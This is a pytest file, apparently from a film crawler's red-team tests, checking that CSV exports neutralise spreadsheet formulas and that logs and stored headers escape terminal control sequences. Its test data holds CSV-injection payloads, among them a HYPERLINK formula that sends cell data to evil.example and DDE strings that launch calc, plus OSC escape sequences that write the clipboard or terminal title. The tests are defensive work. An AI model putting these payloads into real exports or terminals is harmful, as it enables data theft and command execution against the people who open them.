"""Issue 17, items 6 and 12: what filmcrawl writes is safe where it is shown.

CSV cells that a spreadsheet would run as a formula start with ``'`` (OWASP), and
control characters from the network (ESC/OSC sequences in headers, URLs and
reasons) are escaped in every log line, in what is stored from headers, and in CSV.
"""

from __future__ import annotations

import csv
from pathlib import Path

import pytest
from click.testing import CliRunner
from sqlite_utils import Database

from crawler.cli.main import main
from crawler.normalize.escaping import spreadsheet_safe, terminal_safe
from tests.helpers.crawl import run_crawl
from tests.helpers.faults import commented_page
from tests.helpers.servers import Answer, film_page, scripted_server

pytestmark = pytest.mark.redteam

OSC_TITLE = "\x1b]0;pwned\x07"  # sets the terminal's title
OSC_CLIPBOARD = "\x1b]52;c;ZWNobyBwd25lZA==\x07"  # writes the clipboard
CSI_RED = "\x1b[31m"
FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click for the trailer")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("cell", FORMULAS)
def test_formula_cells_are_shown_not_run(cell: str) -> None:
    safe = spreadsheet_safe(cell)
    assert isinstance(safe, str)
    assert safe.startswith("'")
    assert "\x1b" not in safe


def test_other_cells_are_unchanged() -> None:
    assert [spreadsheet_safe(v) for v in ("Great film", "", -5, 2.5, None)] == [
        "Great film",
        "",
        -5,
        2.5,
        None,
    ]
    assert spreadsheet_safe("line one\nline two\ttab") == "line one\nline two\ttab"


def test_terminal_text_keeps_nothing_a_terminal_obeys() -> None:
    for hostile in (OSC_TITLE, OSC_CLIPBOARD, CSI_RED, "\x9b31m", "a\u202eb", "a\rb"):
        safe = terminal_safe(hostile)
        assert not any(ord(char) < 0x20 or 0x7F <= ord(char) <= 0x9F for char in safe)
        assert "\u202e" not in safe


@pytest.mark.slow
def test_network_text_is_escaped_in_logs_storage_and_csv(tmp_path: Path) -> None:
    db = tmp_path / "films.db"
    comments = [(f"Spammer {n}", formula) for n, formula in enumerate(FORMULAS[:4])]
    with scripted_server() as server:
        server.route("/robots.txt", Answer(404))
        server.route(
            "/film",
            Answer.html(
                commented_page("Formula Film", comments),
                ETag=f'"v1{OSC_CLIPBOARD}"',
                **{"X-Note": OSC_TITLE},
            ),
        )
        server.route(
            "/poster.html",
            Answer(200, b"%PDF-1.4 not a page", {"Content-Type": f"text/html{CSI_RED}{OSC_TITLE}"}),
        )
        server.route("/plain", Answer.html(film_page("Plain Film")))
        result = run_crawl(
            db,
            server.url("/film"),
            server.url("/poster.html"),
            server.url("/plain"),
            "-s",
            "LOG_LEVEL=DEBUG",
        )
    assert result.returncode == 0, result.stderr[-3000:]
    # Every log line, Scrapy's DEBUG ones about the responses included.
    assert "\x1b" not in result.stderr
    assert "\x07" not in result.stderr
    assert "\\x1b]0;pwned\\x07" in result.stderr  # shown, not obeyed
    pages = {row["url"].rsplit("/", 1)[1]: row for row in Database(db).query("SELECT * FROM pages")}
    assert pages["film"]["etag"] == '"v1\\x1b]52;c;ZWNobyBwd25lZA==\\x07"'
    assert pages["poster.html"]["status"] == "not_html"
    assert "\x1b" not in pages["poster.html"]["status_reason"]
    assert "\\x1b[31m" in pages["poster.html"]["status_reason"]

    out = tmp_path / "csv"
    exported = CliRunner().invoke(
        main, ["export", "--db", str(db), "--format", "csv", "--out", str(out)]
    )
    assert exported.exit_code == 0, exported.output
    for path in out.glob("*.csv"):
        assert "\x1b" not in path.read_text(encoding="utf-8"), path.name
    with (out / "comments.csv").open(encoding="utf-8", newline="") as stream:
        texts = sorted(row["text"] for row in csv.DictReader(stream))
    assert texts == sorted("'" + formula for _, formula in comments)
